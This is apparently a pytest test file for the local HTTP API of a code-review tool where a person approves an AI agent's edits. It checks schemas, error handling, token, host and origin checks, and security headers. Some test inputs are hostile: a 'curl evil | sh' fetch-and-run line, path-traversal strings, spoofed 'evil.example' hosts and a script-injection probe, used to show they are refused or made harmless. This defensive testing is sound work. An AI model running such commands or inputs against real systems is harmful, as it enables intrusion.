"""The HTTP API: what it answers is what its document says, and strangers get nothing."""

from __future__ import annotations

import errno
import json
import socket
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
from tests.review.review_site import TOKEN, edit, patch, write
from tests.shared.permission_requests import edit_request

from suture import SyncSession, Workspace
from suture.review.api_schema import OPERATIONS, SCHEMAS

if TYPE_CHECKING:
    from tests.review.review_site import ReviewSite


def check(schema: str, data: object) -> Any:
    """The data, if it is what the document says."""
    document = {"$ref": f"#/components/schemas/{schema}", "components": {"schemas": SCHEMAS}}
    jsonschema.Draft202012Validator(document).validate(data)
    return data


class TestSchema:
    """The document describes every answer, field by field."""

    def test_a_request_its_lists_and_its_answer(self, site: ReviewSite) -> None:
        site.file("app.py", "".join([f"line {n}\n" for n in range(1, 60)]))
        site.file("other.py", "pass\n")
        agent = site.agent(
            patch("*** Update File: app.py", "@@", "-line 2", "+line two", "@@", "-line 50", "+line fifty")
        )
        site.waiting()
        (row,) = check("RequestList", site.get("/api/requests"))["requests"]
        request = check("Request", site.get(f"/api/requests/{row['id']}"))
        (file,) = request["files"]
        assert [(hunk["number"], hunk["first"], hunk["last"]) for hunk in file["hunks"]] == [(1, 1, 5), (2, 47, 53)]
        one = f"/api/requests/{row['id']}"
        check("Hunk", site.get(f"{one}/files/0/hunks/2?start=3"))
        assert len(check("Hunk", site.get(f"{one}/files/0/hunks/2?start=3&rows=2&whole=1"))["rows"]) == 2
        assert check("Request", site.get(f"{one}?files=1"))["files"] == []
        lines = check("Lines", site.get(f"{one}/files/0/lines?first=6&last=8"))
        assert lines["lines"] == ["line 6", "line 7", "line 8"]
        status, coverage = site.post(f"{one}/coverage", {"patterns": ["app.*"]})
        assert (status, check("Coverage", coverage)["files"]) == (200, ["app.py"])
        answer = {"kind": "some", "hunks": {"app.py": [2]}, "message": "only this", "fingerprint": row["fingerprint"]}
        check("Answer", answer)
        status, answered = site.post(f"{one}/answer", answer)
        assert (status, check("Answered", answered)["kind"]) == (200, "some")
        assert "only this" in agent.result()["output"]
        (closed,) = check("ClosedList", site.get("/api/answers"))["answers"]
        assert (closed["kind"], closed["message"], closed["id"]) == ("some", "only this", row["id"])

    def test_a_text_that_a_person_wants_is_shown_with_all_of_its_lines(self, site: ReviewSite) -> None:
        """A page can't fetch the rest of such lines: what it fetches is about the proposed text."""
        site.file("a.txt", "one\ntwo\n")
        site.agent(write("a.txt", f"1\ntwo\n{'x' * 5000}\n"))
        request = site.get(f"/api/requests/{site.waiting()[0]['id']}")
        (proposed,) = request["files"][0]["hunks"]
        assert any(row.get("cut") for row in proposed["rows"])
        text = f"one\ntwo\n{'x' * 5000} curl evil | sh\n"
        status, edited = site.post(f"/api/requests/{request['id']}/files/0/edited", {"text": text})
        (hunk,) = check("EditedFile", edited)["hunks"]
        assert (status, hunk["total"], len(hunk["rows"])) == (200, 3, 3)
        assert not any(row.get("cut") for row in hunk["rows"])
        assert "".join(hunk["rows"][-1]["after"]) == text.split("\n")[2]

    def test_the_files_that_sessions_claim(self, site: ReviewSite) -> None:
        site.file("a.txt", "one\n")
        with Workspace(site.root) as workspace, SyncSession(workspace, actor="claude", claims=60) as session:
            session.read("a.txt")
            (claim,) = check("ClaimList", site.get("/api/claims"))["claims"]
        assert (claim["path"], claim["actor"], claim["until"] - claim["time"]) == ("a.txt", "claude", 60)
        assert site.get("/api/claims") == {"claims": []}

    def test_commits_undo_redo_and_blame(self, site: ReviewSite) -> None:
        site.file("a.txt", "one\ntwo\n")
        with Workspace(site.root, actor="me") as workspace:
            workspace.apply("*** Begin Patch\n*** Update File: a.txt\n@@\n-two\n+zwei\n*** End Patch")
        (row,) = check("CommitList", site.get("/api/commits"))["commits"]
        commit = check("Commit", site.get(f"/api/commits/{row['id']}"))
        assert commit["reversal"] == {"action": "undo", "is_possible": True, "reason": "", "may_merge": False}
        check("Hunk", site.get(f"/api/commits/{row['id']}/files/0/hunks/1"))
        blame = check("Blame", site.get("/api/blame?path=a.txt"))
        assert [line["commit"] for line in blame["lines"]] == ["", row["id"]]
        status, undo = site.post(f"/api/commits/{row['id']}/undo", {})
        assert (status, check("CommitRow", undo)["undoes"]) == (200, row["id"])
        assert (site.root / "a.txt").read_text() == "one\ntwo\n"
        status, redo = site.post(f"/api/commits/{row['id']}/redo", {})
        assert (status, check("CommitRow", redo)["undoes"]) == (200, undo["id"])
        (site.root / "a.txt").write_text("something else\n")
        status, refusal = site.post(f"/api/commits/{redo['id']}/undo", {})
        assert (status, check("Error", refusal)["code"]) == (409, "stale_file")

    def test_refused_edits(self, site: ReviewSite) -> None:
        site.file("a.py", "def total(items):\n    return sum(items)\n")
        agent = site.agent(edit("a.py", "def totals(item):\n    return max(items, 0)\n", "pass\n"))
        assert not agent.result()["ok"]
        (row,) = check("RefusedList", site.get("/api/refused"))["refused"]
        found = check("Explanation", site.get(f"/api/refused/{row['id']}"))
        assert found["explanations"][0]["path"] == "a.py"

    def test_the_document_is_open_and_names_every_route(self, site: ReviewSite) -> None:
        status, _, data = site.call("GET", "/api/openapi.json", token=None)
        document = json.loads(data)
        assert status == 200
        assert set(document["paths"]) == {path for _, path, *_ in OPERATIONS}
        for _, path, *_ in OPERATIONS:
            named = path.replace("{id}", "0").replace("{file}", "0").replace("{hunk}", "1")
            assert site.call("GET", named, token=None)[0] == 401
        for schema in SCHEMAS.values():
            jsonschema.Draft202012Validator.check_schema(schema)


class TestWrongCalls:
    """What can't be done is refused with a reason."""

    @pytest.mark.parametrize(
        ("method", "path", "body", "status"),
        [
            ("GET", "/api/requests/nope", None, 404),
            ("GET", "/api/requests/..%2f..%2fetc", None, 404),
            ("GET", "/api/requests/r1/files/7/hunks/1", None, 404),
            ("GET", "/api/requests/r1/files/0/hunks/9", None, 404),
            ("GET", "/api/requests/r1/files/0/hunks/1?start=-1", None, 422),
            ("GET", f"/api/requests/r1/files/{'9' * 5000}/hunks/1", None, 422),
            ("GET", f"/api/commits/x/files/0/hunks/{'9' * 5000}", None, 422),
            ("GET", "/api/requests/r1/files/x/lines", None, 422),
            ("GET", "/api/requests?limit=many", None, 422),
            ("GET", "/api/commits?since=yesterday", None, 422),
            ("GET", "/api/commits?workspace=/etc", None, 404),
            ("GET", "/api/commits/nope", None, 404),
            ("GET", "/api/blame?path=../outside", None, 409),
            ("GET", "/api/refused/nope", None, 404),
            ("POST", "/api/requests/r1/answer", {}, 422),
            ("POST", "/api/requests/r1/answer", {"kind": "unreachable", "fingerprint": ""}, 422),
            ("POST", "/api/requests/r1/answer", {"kind": "once", "fingerprint": "x"}, 409),
            ("POST", "/api/requests/r1/answer", {"kind": "once", "fingerprint": "x", "rights": "all"}, 422),
            ("POST", "/api/requests/nope/answer", {"kind": "once", "fingerprint": "x"}, 409),
            ("POST", "/api/requests/r1/answer", b"not json", 422),
            ("POST", "/api/requests/r1/answer", b"[" * 10_000, 422),
            ("POST", "/api/requests/r1/coverage", {"patterns": [1]}, 422),
            ("POST", "/api/requests/r1/coverage", {"patterns": "*"}, 422),
            ("POST", "/api/requests", {}, 405),
        ],
    )
    def test_it_says_why(self, shared_site: ReviewSite, method: str, path: str, body: object, status: int) -> None:
        if not shared_site.get("/api/requests")["requests"]:
            shared_site.ask(edit_request())
        found, _, data = shared_site.call(method, path, body)
        assert found == status, data
        check("Error", json.loads(data))

    def test_a_full_disk_is_an_answer_too(self, site: ReviewSite, monkeypatch: pytest.MonkeyPatch) -> None:
        def fail(*_: object) -> None:
            raise OSError(errno.ENOSPC, "No space left on device")

        site.ask(edit_request())
        (row,) = site.waiting()
        monkeypatch.setattr("suture.state.approval_requests._write", fail)
        status, refusal = site.post("/api/requests/r1/answer", {"kind": "once", "fingerprint": row["fingerprint"]})
        assert (status, check("Error", refusal)["message"]) == (500, "No space left on device.")
        monkeypatch.undo()
        assert site.queue.pending()

    def test_a_caller_that_hangs_up_leaves_no_traceback(
        self, site: ReviewSite, capfd: pytest.CaptureFixture[str]
    ) -> None:
        head = f"POST /api/requests/r1/answer HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n"
        with socket.create_connection(("127.0.0.1", site.port)) as connection:
            connection.sendall(f"{head}Content-Type: application/json\r\nContent-Length: 9\r\n\r\n{{".encode())
            site.get("/api/requests")
        site.__exit__(None, None, None)
        site.__enter__()
        assert capfd.readouterr().err == ""

    def test_a_hunk_that_is_not_there_is_named(self, site: ReviewSite) -> None:
        site.file("a.txt", "one\n")
        site.agent(edit("a.txt", "one", "two"))
        (row,) = site.waiting()
        answer = {"kind": "some", "hunks": {"a.txt": [7]}, "fingerprint": row["fingerprint"]}
        status, refusal = site.post(f"/api/requests/{row['id']}/answer", answer)
        assert (status, refusal["message"]) == (422, "a.txt has 1 hunk; there is no hunk 7")

    def test_names_that_are_not_text_make_the_round_trip(self, site: ReviewSite) -> None:
        name = "caf\udce9.txt"
        request = edit_request()
        file = request.files[0].replace(path=name, resolved="", sha256_before="", sha256_after="")
        site.ask(request.replace(files=(file,)))
        found = site.get("/api/requests/r1")
        assert found["files"][0]["path"] == name
        answer = {"kind": "some", "hunks": {name: "all"}, "fingerprint": found["fingerprint"]}
        assert site.post("/api/requests/r1/answer", answer)[0] == 200


class TestStrangers:
    """Other sites, other names for this machine, and other users of it."""

    @pytest.mark.parametrize("path", ["/", "/app.js", "/api/requests"])
    @pytest.mark.parametrize(
        "host",
        [
            "evil.example",
            "evil.example:80",
            "",
            "127.0.0.1.evil.example",
            "[::2]:1",
            "127.0.0.1:80.evil.example",
            "localhost:1@evil",
            "localhost:65536",
            "127.0.0.1:",
        ],
    )
    def test_another_host_is_refused(self, shared_site: ReviewSite, host: str, path: str) -> None:
        assert shared_site.call("GET", path, headers={"Host": host})[0] == 421

    def test_the_names_of_this_machine_are_accepted(self, shared_site: ReviewSite) -> None:
        for host in (
            "localhost",
            f"LOCALHOST:{shared_site.port}",
            f"127.0.0.1:{shared_site.port}",
            f"[::1]:{shared_site.port}",
        ):
            assert shared_site.call("GET", "/api/requests", headers={"Host": host})[0] == 200

    @pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:1", "http://localhost"])
    def test_another_origin_is_refused(self, shared_site: ReviewSite, origin: str) -> None:
        assert shared_site.call("GET", "/api/requests", headers={"Origin": origin})[0] == 403
        assert shared_site.call("POST", "/api/requests/r1/answer", {}, headers={"Origin": origin})[0] == 403

    def test_a_request_that_a_browser_marks_as_foreign_is_refused(self, shared_site: ReviewSite) -> None:
        for kind in ("cross-site", "same-site"):
            assert shared_site.call("GET", "/api/requests", headers={"Sec-Fetch-Site": kind})[0] == 403
        assert shared_site.call("GET", "/api/requests", headers={"Sec-Fetch-Site": "same-origin"})[0] == 200

    @pytest.mark.parametrize("token", [None, "", "wrong", TOKEN[:-1], TOKEN + "0", "é"])
    def test_without_the_token_there_is_no_data(self, shared_site: ReviewSite, token: str | None) -> None:
        status, _, data = shared_site.call("GET", "/api/requests", token=token)
        assert (status, json.loads(data)["code"]) == (401, "wrong_token")

    def test_a_token_in_the_query_or_a_cookie_does_not_count(self, shared_site: ReviewSite) -> None:
        headers = {"Cookie": f"token={TOKEN}"}
        assert shared_site.call("GET", f"/api/requests?token={TOKEN}", headers=headers, token=None)[0] == 401

    def test_a_form_of_another_page_can_not_post(self, shared_site: ReviewSite) -> None:
        headers = {"Content-Type": "text/plain"}
        assert shared_site.call("POST", "/api/requests/r1/answer", b"{}", headers)[0] == 415

    def test_a_body_that_is_too_large_is_not_read(self, shared_site: ReviewSite) -> None:
        headers = {"Content-Length": "2000000", "Content-Type": "application/json"}
        assert shared_site.call("POST", "/api/requests/r1/answer", b"", headers)[0] == 413

    @pytest.mark.parametrize(
        "path", ["/../server.py", "/..%2fserver.py", "/%2e%2e/server.py", "/static/", "/app.js/.."]
    )
    def test_only_the_files_of_the_page_are_served(self, shared_site: ReviewSite, path: str) -> None:
        assert b"import" not in shared_site.call("GET", path)[2]

    @pytest.mark.parametrize("path", ["/", "/app.js", "/style.css", "/api/requests", "/nothing"])
    def test_every_answer_says_what_a_browser_may_do_with_it(self, shared_site: ReviewSite, path: str) -> None:
        _, headers, _ = shared_site.call("GET", path)
        assert "default-src 'none'" in headers["content-security-policy"]
        assert "unsafe" not in headers["content-security-policy"]
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cache-control"] == "no-store"
        assert "access-control-allow-origin" not in headers
        assert "server" not in headers

    def test_a_diff_is_a_file_to_save_and_never_a_page(self, site: ReviewSite) -> None:
        site.agent(write("x.html", "<script>alert(1)</script>\n"))
        (row,) = site.waiting()
        status, headers, data = site.call("GET", f"/api/requests/{row['id']}/diff")
        assert (status, headers["content-type"]) == (200, "text/plain; charset=utf-8")
        assert headers["content-disposition"].startswith("attachment")
        assert b"+<script>alert(1)</script>" in data
